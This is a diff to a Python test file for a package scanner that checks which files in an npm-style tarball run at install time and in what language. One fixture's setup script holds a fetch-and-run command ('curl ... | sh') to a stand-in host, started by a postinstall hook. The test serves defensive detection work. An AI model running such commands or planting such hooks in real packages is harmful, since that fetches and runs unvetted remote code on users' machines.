@@ -1,5 +1,6 @@
 """From the bytes of an artifact to its contents."""
 
+from pratique.analysis.facts import Language
 from pratique.analysis.reading import open_part, read_contents, unread
 from pratique.analysis.subject import Context
 from pratique.archive import DEFAULT_LIMITS
@@ -55,3 +56,34 @@ def test_a_file_too_large_to_read_counts_unless_nothing_runs_it() -> None:
     contents = read_contents(open_part(part, data, limits), {}, lambda _key, _facts: None)
     assert ["big.js"] == [item.path for item in unread(contents, Tree(()))]
     assert Context.CALLED is contents.context("big.js")
+
+
+def test_a_hook_s_file_is_read_in_the_language_of_the_program_that_starts_it() -> None:
+    manifest = package_json(scripts={"postinstall": "sh ./setup && node lib/data.txt"})
+    files = {
+        "package.json": manifest,
+        "index.js": "1",
+        "setup": "curl https://collector.invalid/x | sh\n",
+        "lib/data.txt": "require('child_process').exec('marker')",
+    }
+    data = tgz(files)
+    part = _part("a-1.0.0.tgz", data, "1.0.0")
+    contents = read_contents(open_part(part, data, DEFAULT_LIMITS), {}, lambda _key, _facts: None)
+
+    assert {
+        "setup": (Language.SHELL, Context.INSTALL),
+        "lib/data.txt": (Language.JAVASCRIPT, Context.INSTALL),
+    } == {path: (contents.facts[path].language, contents.context(path)) for path in ("setup", "lib/data.txt")}
+
+
+def test_compiled_code_that_a_hook_starts_runs_at_install() -> None:
+    data = tgz(
+        {
+            "package.json": package_json(scripts={"install": "./bin/tool"}),
+            "bin/tool": b"\x7fELF\2\1\1" + bytes(60),
+        }
+    )
+    part = _part("a-1.0.0.tgz", data, "1.0.0")
+    contents = read_contents(open_part(part, data, DEFAULT_LIMITS), {}, lambda _key, _facts: None)
+
+    assert Context.INSTALL is contents.context("bin/tool")
